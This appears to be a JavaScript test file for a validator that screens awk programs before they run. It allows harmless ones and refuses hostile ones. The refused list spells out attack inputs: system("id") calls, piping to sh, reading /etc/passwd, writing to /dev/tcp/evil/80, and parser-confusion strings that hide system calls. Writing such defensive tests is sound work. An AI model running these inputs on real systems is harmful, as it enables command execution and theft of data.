import { equal, match } from 'node:assert/strict';
import fc from 'fast-check';
import { checkAwkProgram } from '../../../../src/policy/scripts/check-awk-program.js';

const allowed = [
  '{print $1}',
  'NR>=10 && NR<=20',
  'END{print NR}',
  '/re/{f=1} f',
  '{print $1, $NF/2}',
  '{ if ($1 > 3) print "x" }',
  '{ print (a > b) }',
  '{ print a, (b > c) ? 1 : 2 }',
  '{ x = $1 > 2; print x }',
  '/a|b/ || /c/',
  '$0 ~ "a|b"',
  '/[/|]/{n++} END{print n+0}',
  '/a\\/b/',
  '{print "say \\"| sh\\" > out"}',
  '{print length / 2 "/"}',
  '{sum += $1} END {printf "%.2f\\n", sum / NR}',
  'NR==FNR{a[$1]=$2;next} ($1 in a){print a[$1]}',
  'FILENAME==ARGV[1]{a[$1];next} 1',
  'BEGIN{FS=":"; OFS="\\t"} {$1=$1}1',
  '{print > "/dev/stderr"}',
  'BEGIN { for (i = 0; i > -3; i--) print i }',
  'function f(x) { return x > 1 } { print f($1) }',
  '/system/ {print "getline"}',
  '{x = y / "/; system(1); /"}',
  '# system("x")\n{print}',
  '{print a,\n b}',
  '{gsub(/[^a-z]/, ""); print tolower($0)}',
  'BEGIN{print ENVIRON["HOME"]; close("x"); fflush()}',
  '',
];

const refused = [
  'BEGIN{system("id")}',
  'BEGIN{system ("id")}',
  'BEGIN { x = system }',
  '{print > "f"}',
  '{print>"f"}',
  '{print >> "f"}',
  '{print a, b > "x"}',
  '{printf "%s" > f}',
  '{printf("%s", $0) > "f"}',
  '{print (a)(b) > "f"}',
  '{print a[1] > "f"}',
  '{print a,\n\n b > "f"}',
  '{print a, # comment\n\n b > "f"}',
  '{print a ? b : c > "f"}',
  '{print a > "/dev/stderr" ".x"}',
  '{print a > ("/dev/stderr")}',
  '{print a > "/dev/tcp/evil/80"}',
  '{if (1) print a > "f"}',
  '{print "x" | "sh"}',
  '{print |& "sh"}',
  '{print | c}',
  '{"id" | getline}',
  'BEGIN{"id" | getline x; print x}',
  'BEGIN{while ((getline l < "/etc/passwd") > 0) print l}',
  'BEGIN{getline < "/etc/passwd"; print}',
  '@include "x"',
  '@load "filefuncs"',
  'BEGIN{f="system"; @f("id")}',
  'BEGIN{awk::system("id")}',
  'BEGIN{ARGV[1]="/etc/passwd"}',
  'BEGIN{ARGV[1]++}',
  'BEGIN{sub(/x/, "/etc/passwd", ARGV[1])}',
  'BEGIN{split("/etc/passwd", ARGV)}',
  'BEGIN{f(ARGV)}',
  'BEGIN{x == ARGV[1] = "/etc/passwd"}',
  'BEGIN{SYMTAB["x"]=1}',
  'BEGIN{FUNCTAB["x"]}',
  // The lexer and awk must not differ about where a regular expression or a string ends.
  '/[\\]/ ~ "]/ {system(1)} #"',
  '/[]/ ~ "]/ {system(1)} #"',
  '/[[:]/ ~ "]/ {system(1)} #"',
  '{if (1) /"/; system(1); /"/}',
  '{while (0)\n/"/; system(1); /"/}',
  '{print $/"/; system(1); /"/}',
  '# comment \\\nBEGIN{system("id")}',
  '{print "a\\\n"; system(1)}',
  '{print "open',
  '/open',
  '{print `id`}',
  "{print 'x'}",
  '{print a\r}',
  ')',
  '{f({print > "x"})}',
  'x\0',
];

describe('the check of awk programs', () => {
  for (const program of allowed) {
    it(`allows ${JSON.stringify(program)}`, () => equal(checkAwkProgram(program), undefined));
  }

  for (const program of refused) {
    it(`refuses ${JSON.stringify(program)}`, () => match(checkAwkProgram(program) ?? '', /./));
  }

  it('refuses what is too long', () => match(checkAwkProgram('1;'.repeat(20_000)) ?? '', /longer/));

  it('reads a hostile program of the greatest length at once', () => {
    const start = performance.now();
    for (const part of ['[', '/[', '/[[:', '/x/', '(', '"\\', '#', '\n', 'print ', '/[/]/', '1.', '\\\n'])
      checkAwkProgram(part.repeat(20_000 / part.length));
    equal(performance.now() - start < 2000, true);
  });

  it('judges any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const reason = checkAwkProgram(text);
        return reason === undefined || reason.length > 0;
      }),
    );
  });

  it('lets no word for a program through outside of strings, regular expressions and comments', () => {
    const words = fc.constantFrom(
      'system("id")',
      'getline',
      'getline x < "f"',
      'print > "f"',
      'print | "sh"',
    );
    const before = fc.constantFrom(
      '',
      '{',
      'BEGIN{',
      '1;',
      '/x/{',
      '{x = 1 / 2;',
      '{if (1) ',
      '{print "a";',
      '{f(1);',
    );
    fc.assert(fc.property(before, words, (start, word) => checkAwkProgram(`${start}${word}`) !== undefined));
  });
});
